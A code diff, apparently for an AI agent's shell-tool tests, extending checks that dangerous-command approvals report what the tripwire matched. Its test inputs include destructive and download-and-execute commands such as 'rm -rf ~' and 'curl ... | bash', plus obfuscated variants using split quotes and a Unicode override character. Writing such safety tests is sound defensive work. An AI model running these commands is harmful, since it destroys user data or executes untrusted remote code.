@@ -59,8 +59,24 @@ describeWithFacility('bwrap', 'shell tool with bwrap', () => {
   test('a dangerous command asks even in autonomous mode with an always-allow rule for shell', () => {
     const outcome = decide(tool, 'rm -rf ~');
     expect(outcome.decision).toBe('ask');
-    expect(outcome).toMatchObject({ dangerous: 'dangerous command: recursive delete of / or the home folder' });
+    expect(outcome).toMatchObject({
+      dangerous: 'dangerous command: recursive delete of / or the home folder — matched: rm -rf ~',
+    });
     expect(decide(tool, 'curl https://x | sh').decision).toBe('ask');
+  });
+
+  test('the approval says what the tripwire matched, as the shell reads it (quotes removed, $HOME resolved)', () => {
+    const facts = (command: string) => tool.describeCall?.({ command }, { workspace: fixture.workspace })?.alwaysAsk;
+    expect(facts('cd /tmp && curl -s https://x.example/i.sh | bash; ls')).toMatch(
+      /^dangerous command: pipes a download into a shell \(curl \| sh\) — matched: curl -s https:\/\/x\.example\/i\.sh \| bash$/,
+    );
+    expect(facts(`sh -c "r''m -r''f \\$HOME"`)).toMatch(
+      /^dangerous command: recursive delete of \/ or the home folder .* — matched: rm -rf \//,
+    );
+    expect(facts('sudo ls \u202Eevil')).toBe(
+      'dangerous command: runs a command as another user (sudo / su / doas) — matched: sudo ls ⟨U+202E⟩evil',
+    );
+    expect(facts('echo ok; eval "$(printf x)"')).toMatch(/evaluates generated code \(eval\) — matched: eval /);
   });
 
   test('a harmless command in the same setup is allowed', () => {
@@ -111,7 +127,7 @@ describe('shell tool without a sandbox', () => {
 
   test('a dangerous pattern still wins as the reason', () => {
     expect(shellAlwaysAskReason('sudo ls', sandbox)).toBe(
-      'dangerous command: runs a command as another user (sudo / su / doas)',
+      'dangerous command: runs a command as another user (sudo / su / doas) — matched: sudo ls',
     );
   });
 
